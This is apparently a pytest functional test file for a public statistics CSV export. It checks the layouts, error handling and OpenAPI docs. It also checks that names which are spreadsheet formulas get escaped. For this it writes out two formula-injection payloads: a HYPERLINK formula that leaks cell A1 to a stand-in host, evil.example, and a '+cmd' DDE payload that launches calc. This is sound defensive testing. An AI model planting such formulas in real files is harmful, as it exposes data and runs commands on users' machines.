"""``GET /public/stats.csv``: the /stats/ page's tidy layout by default, the long layout
on request, and no cell a spreadsheet would run (docs/stats.md)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from chalicelib.domain.stats_table import TIDY_COLUMNS
from tests.functional.conftest import ADMIN, Api

HOSTILE_ORG = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
HOSTILE_UNIT = "+cmd|' /C calc'!A0"
LONG_COLUMNS = ["scope", "period", "section", "figure", "key", "value"]


@pytest.fixture
def places(api: Api) -> dict[str, str]:
    """An organisation and a unit whose admin gave them names that are formulas."""
    admin = api.token(ADMIN)
    org = api.call(
        "POST",
        "/orgs",
        {"name": HOSTILE_ORG, "country": "SI", "municipality_code": "061", "youth_population": 400},
        token=admin,
    )
    assert org.status == 201, org.json
    unit = api.call("POST", f"/orgs/{org.json['id']}/units", {"name": HOSTILE_UNIT}, token=admin)
    assert unit.status == 201, unit.json
    return {"org": org.json["id"], "unit": unit.json["id"]}


def read(api: Api, query: str) -> tuple[object, list[list[str]]]:
    answer = api.client.http.get(f"/public/stats.csv?{query}")
    assert answer.status_code == 200, answer.body
    return answer, list(csv.reader(io.StringIO(answer.body.decode(), newline="")))


def test_a_name_that_is_a_formula_is_written_as_text(api: Api, places: dict[str, str]) -> None:
    # When the public downloads the organisation's and the unit's CSV
    for scope, name in (
        (f"org:{places['org']}", HOSTILE_ORG),
        (f"unit:{places['unit']}", HOSTILE_UNIT),
    ):
        _, rows = read(api, f"scope={scope}&period=2026")
        header, body = rows[0], rows[1:]
        # Then every row names the scope, and never as a formula
        names = {row[header.index("scope_name")] for row in body}
        assert names == {"'" + name}, scope
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in body for cell in row)


def test_the_default_layout_is_the_pages_tidy_rows(api: Api, places: dict[str, str]) -> None:
    scope = f"org:{places['org']}"
    answer, rows = read(api, f"scope={scope}&period=2026")
    assert tuple(rows[0]) == TIDY_COLUMNS
    assert answer.body.decode().endswith("\r\n")  # the page's line ends (RFC 4180)
    assert 'filename="logbook-stats_org-' in answer.headers["Content-Disposition"]
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    summary = {r["measure"]: r["value"] for r in records if r["section"] == "summary"}
    # An organisation without activities: zeros, and per capita from its young residents
    assert summary["activities"] == "0" and summary["hours"] == "0"
    assert summary["visits_per_1000"] == "0"
    assert {r["municipality_code"] for r in records} == {"061"}
    assert {r["period"] for r in records} == {"2026"} and {r["scope"] for r in records} == {scope}
    assert [r["measure"] for r in records if r["section"] == "activities"][:2] == [
        "kind:open",
        "kind:group",
    ]


def test_the_long_layout_stays_for_existing_scripts(api: Api, places: dict[str, str]) -> None:
    _, rows = read(api, f"scope=org:{places['org']}&period=2026&layout=long")
    assert rows[0] == LONG_COLUMNS
    assert ["activities", "count", "", "0"] in [row[2:] for row in rows[1:]]


@pytest.mark.parametrize("layout", ["wide", "", "TIDY", "tidy,long"])
def test_a_bad_layout_is_400_naming_it(api: Api, layout: str) -> None:
    answer = api.client.http.get(f"/public/stats.csv?scope=all&period=2026&layout={layout}")
    assert answer.status_code == 400
    body = json.loads(answer.body)
    assert body["errors"][0]["field"] == "query.layout" and body["errors"][0]["problem"]


def test_openapi_documents_the_layout(api: Api) -> None:
    document = api.call("GET", "/openapi.json").json
    parameters = document["paths"]["/public/stats.csv"]["get"]["parameters"]
    layout = next(p for p in parameters if p["name"] == "layout")
    assert layout["in"] == "query" and "tidy" in json.dumps(layout)
